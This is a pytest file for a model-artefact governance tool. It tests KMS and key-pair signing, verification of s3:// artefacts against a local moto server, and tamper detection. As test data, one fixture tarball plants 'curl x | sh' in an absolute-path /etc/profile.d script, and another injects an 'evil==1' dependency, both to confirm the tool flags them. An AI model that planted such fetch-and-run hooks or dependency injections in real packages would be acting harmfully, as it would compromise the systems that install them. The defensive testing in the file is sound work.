"""Signing with AWS KMS and verifying s3:// artefacts, against moto's server on 127.0.0.1 (see
test_signing_kms.py for what is covered for KMS's RAW and DIGEST message types)."""

from __future__ import annotations

import base64
import json
import sys
from pathlib import Path

import pytest
import yaml

from governance import storage
from governance.cli import main
from governance.errors import CheckFailed, Incomplete
from governance.integrity import inspect_artefact, sign_artefact, verify_artefact
from governance.integrity.source import S3Object
from governance.signing import dsse
from governance.signing.kms import MAX_RAW_MESSAGE, KmsSigner, kms_client
from governance.signing.signer import load_signer, load_verifier, write_key_pair
from tests.test_integrity_archive import member, model_tarball, small_booster_bytes, tar_gz

pytestmark = pytest.mark.servers
BUCKET = "quickloan-models"


@pytest.fixture
def kms_arn(aws):
    client = kms_client()
    key = client.create_key(KeySpec="ECC_NIST_P256", KeyUsage="SIGN_VERIFY")["KeyMetadata"]
    client.create_alias(AliasName="alias/model-signing", TargetKeyId=key["KeyId"])
    return key["Arn"]


@pytest.fixture
def s3(aws):
    client = storage.s3_client()
    client.create_bucket(Bucket=BUCKET)
    return client


def test_kms_signed_artefact_verifies_here_and_with_the_stock_tool(kms_arn, tmp_path, capsys):
    artefact = tmp_path / "model.tar.gz"
    artefact.write_bytes(model_tarball())
    assert main(["sign", str(artefact), "--kms-key-id", "alias/model-signing", "--json"]) == 0
    signed = json.loads(capsys.readouterr().out)
    assert signed["signer"]["identity"] == kms_arn
    # Both statements fit a RAW KMS message: this is the end-to-end RAW path.
    for path in (f"{artefact}.sig", f"{artefact}.manifest.sig"):
        envelope = json.loads(Path(path).read_text())["dsseEnvelope"]
        payload = base64.b64decode(envelope["payload"])
        assert len(dsse.pae(envelope["payloadType"], payload)) <= MAX_RAW_MESSAGE

    public = tmp_path / "kms.pub.pem"
    public.write_bytes(KmsSigner(kms_arn).public_key_pem())
    result = verify_artefact(artefact, verifier=load_verifier(public))
    assert result.passed and result.identity == kms_arn

    trusted = tmp_path / "trusted.yaml"
    trusted.write_text(yaml.safe_dump({"signers": [{"name": "kms-ci", "kms_key_arn": kms_arn}]}))
    assert main(["verify", str(artefact), "--trusted", str(trusted), "--json"]) == 0
    verdict = json.loads(capsys.readouterr().out)
    assert verdict["signer"] == {**verdict["signer"], "trusted_as": "kms-ci", "identity": kms_arn}

    pytest.importorskip("model_signing")
    from model_signing import verifying

    verifying.Config().use_elliptic_key_verifier(public_key=public).verify(artefact, f"{artefact}.sig")


def test_s3_artefact_sign_verify_and_tamper(s3, tmp_path, capsys):
    private, public = write_key_pair(tmp_path / "keys")
    uri = f"s3://{BUCKET}/credit/v1/model.tar.gz"
    s3.put_object(Bucket=BUCKET, Key="credit/v1/model.tar.gz", Body=model_tarball(), ChecksumAlgorithm="SHA256")

    result = sign_artefact(uri, load_signer(private))
    assert result.signature == f"{uri}.sig" and storage.exists(f"s3://{BUCKET}/credit/v1/model.tar.gz.manifest.sig")

    verified = verify_artefact(uri, verifier=load_verifier(public))
    assert verified.passed and verified.s3["compared"] and verified.s3["matched"]

    assert main(["verify", uri, "--key", str(public), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["s3"]["matched"] is True
    assert main(["inspect", uri, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["s3"]["matched"] is True

    s3.put_object(Bucket=BUCKET, Key="credit/v1/model.tar.gz", ChecksumAlgorithm="SHA256",
                  Body=model_tarball({"code/requirements.txt": b"evil==1\n"}))
    with pytest.raises(CheckFailed) as failure:
        verify_artefact(uri, verifier=load_verifier(public))
    assert failure.value.reason == "DIGEST_MISMATCH"
    assert {"change": "added", "member": "code/requirements.txt"} in failure.value.details["changes"]


def test_s3_object_without_sha256_checksum_is_not_compared(s3, tmp_path):
    private, public = write_key_pair(tmp_path / "keys")
    s3.put_object(Bucket=BUCKET, Key="m.tar.gz", Body=model_tarball())
    sign_artefact(f"s3://{BUCKET}/m.tar.gz", load_signer(private), out=tmp_path / "m.sig")
    result = verify_artefact(f"s3://{BUCKET}/m.tar.gz", tmp_path / "m.sig", verifier=load_verifier(public))
    assert result.passed and result.s3["compared"] is False


def test_s3_unsafe_artefact_and_missing_objects(s3, tmp_path):
    s3.put_object(Bucket=BUCKET, Key="bad.tar.gz", Body=tar_gz(member("xgboost-model", small_booster_bytes()),
                                                                member("/etc/profile.d/x.sh", b"curl x | sh")))
    assert [f.code for f in inspect_artefact(f"s3://{BUCKET}/bad.tar.gz").blocking] == ["ABSOLUTE_PATH"]
    assert main(["inspect", f"s3://{BUCKET}/absent.tar.gz"]) == 2
    assert main(["inspect", "s3://no-such-bucket/m.tar.gz"]) == 2


def test_s3_checksum_disagreement_fails_closed():
    stored = S3Object(checksum_sha256="AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", checksum_type="FULL_OBJECT")
    with pytest.raises(Incomplete) as failure:
        stored.cross_check("ab" * 32)
    assert failure.value.reason == "S3_CHECKSUM_MISMATCH"
    assert S3Object(checksum_sha256="abc-3", checksum_type="COMPOSITE").cross_check("ab" * 32)["compared"] is False


def test_unreachable_endpoint_is_incomplete(monkeypatch, tmp_path):
    from tests.servers import free_port

    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://127.0.0.1:{free_port()}")
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    assert main(["inspect", "s3://bucket/model.tar.gz"]) == 3
    assert main(["sign", str(tmp_path / "x"), "--kms-key-id", "alias/x"]) == 3
    sys.stderr.flush()


@pytest.mark.parametrize("uri", ["s3://bucket", "s3://bucket/"])
def test_s3_uri_without_a_key_is_bad_input(monkeypatch, capsys, uri):
    from tests.servers import free_port

    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://127.0.0.1:{free_port()}")  # the request is refused before sending
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    assert main(["inspect", uri]) == 2
    err = capsys.readouterr().err
    assert "BAD_URI" in err and err.count("\n") == 1
